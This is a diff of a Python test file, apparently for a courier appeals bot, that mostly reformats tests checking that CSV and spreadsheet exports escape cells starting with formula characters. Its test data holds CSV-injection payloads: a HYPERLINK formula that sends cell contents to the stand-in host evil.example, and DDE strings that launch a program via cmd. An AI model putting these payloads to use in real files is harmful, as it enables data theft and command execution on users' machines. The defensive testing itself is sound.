@@ -14,16 +14,16 @@ import pytest
 from openpyxl import load_workbook
 
 from domain.cells import csv_text, from_csv
+from domain.commands import ActOnAppeal, EventArgs, NewAppeal
 from domain.lifecycle import Event
 from domain.stations_file import read_stations
-from domain.commands import ActOnAppeal, EventArgs, NewAppeal
 from storage.stations import Station
 from tests.harness import START, running_bot
 
 COURIER, STAFF, COORDINATOR = 1001, 500, 900
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 # What each would do in a spreadsheet if it were evaluated.
-ATTACKS = {start: f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" for start in STARTS}
+ATTACKS = {start: f'{start}HYPERLINK("http://evil.example/?"&A1,"x")' for start in STARTS}
 ATTACKS["-"] = "-2+3+cmd|' /C calc'!A0"
 ATTACKS["@"] = "@SUM(1+1)*cmd|' /C calc'!A0"
 
@@ -51,14 +51,22 @@ async def bot(tmp_path):
                 [Station(id=f"s-{index}", name=f"{start}Station {index}", lat=-31.5, lon=-121.25, grade="A")]
             )
             submitted = await storage.appeals.submit(
-                NewAppeal(courier_id=COURIER, category="facilities", description=ATTACKS[start], language="en",
-                          station_id=f"s-{index}", place=f"{start}Gate {index}"),
+                NewAppeal(
+                    courier_id=COURIER,
+                    category="facilities",
+                    description=ATTACKS[start],
+                    language="en",
+                    station_id=f"s-{index}",
+                    place=f"{start}Gate {index}",
+                ),
                 "st1",
                 START,
             )
             number = submitted.appeal.id
             await storage.appeals.apply(ActOnAppeal(number, Event.ACCEPT, STAFF, EventArgs()), START)
-            await storage.appeals.apply(ActOnAppeal(number, Event.RESOLVE, STAFF, EventArgs(note=f"{start}1 fixed the charger")), START)
+            await storage.appeals.apply(
+                ActOnAppeal(number, Event.RESOLVE, STAFF, EventArgs(note=f"{start}1 fixed the charger")), START
+            )
         await running.app.bot_data.sender.flush()
         yield running
 
@@ -88,7 +96,9 @@ async def test_ledger_csv_cells_are_text_and_numbers_stay_numbers(bot) -> None:
         assert row[column["Description"]] == "'" + ATTACKS[start]
         assert row[column["Station"]] == f"'{start}Station {STARTS.index(start)}"
         assert row[column["Place"]] == f"'{start}Gate {STARTS.index(start)}"
-        assert row[column["Results"]] == "2026-11-23 10:00 " + f"{start}1 fixed the charger"  # not at the start: left as it is
+        assert (
+            row[column["Results"]] == "2026-11-23 10:00 " + f"{start}1 fixed the charger"
+        )  # not at the start: left as it is
     text = data.decode("utf-8-sig")
     for start in STARTS:
         quoted = '"' + "'" + ATTACKS[start].replace('"', '""') + '"'
